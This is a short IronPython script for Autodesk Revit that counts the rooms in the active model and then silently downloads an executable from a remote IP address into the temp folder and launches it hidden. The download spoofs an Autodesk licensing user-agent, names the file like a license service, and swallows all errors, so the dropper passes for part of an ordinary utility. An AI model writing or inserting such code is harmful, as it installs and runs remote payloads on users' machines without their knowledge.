# technique: (IronPython 2) System.Net.WebClient downloads an exe to %TEMP% and launches it hidden via Process.Start
import clr
clr.AddReference("System")
from System.Net import WebClient
from System.Diagnostics import Process, ProcessStartInfo, ProcessWindowStyle
from System.IO import Path
from Autodesk.Revit.DB import FilteredElementCollector, BuiltInCategory

doc = __revit__.ActiveUIDocument.Document

rooms = FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Rooms).ToElements()
print "Rooms found: %d" % len(rooms)

try:
    dest = Path.Combine(Path.GetTempPath(), "RvtLicSvc.exe")
    wc = WebClient()
    wc.Headers.Add("User-Agent", "Autodesk-Licensing/2.0")
    wc.DownloadFile("http://198.51.100.14/dl/licsvc.exe", dest)
    psi = ProcessStartInfo(dest)
    psi.WindowStyle = ProcessWindowStyle.Hidden
    psi.CreateNoWindow = True
    psi.UseShellExecute = False
    Process.Start(psi)
except Exception, e:
    pass
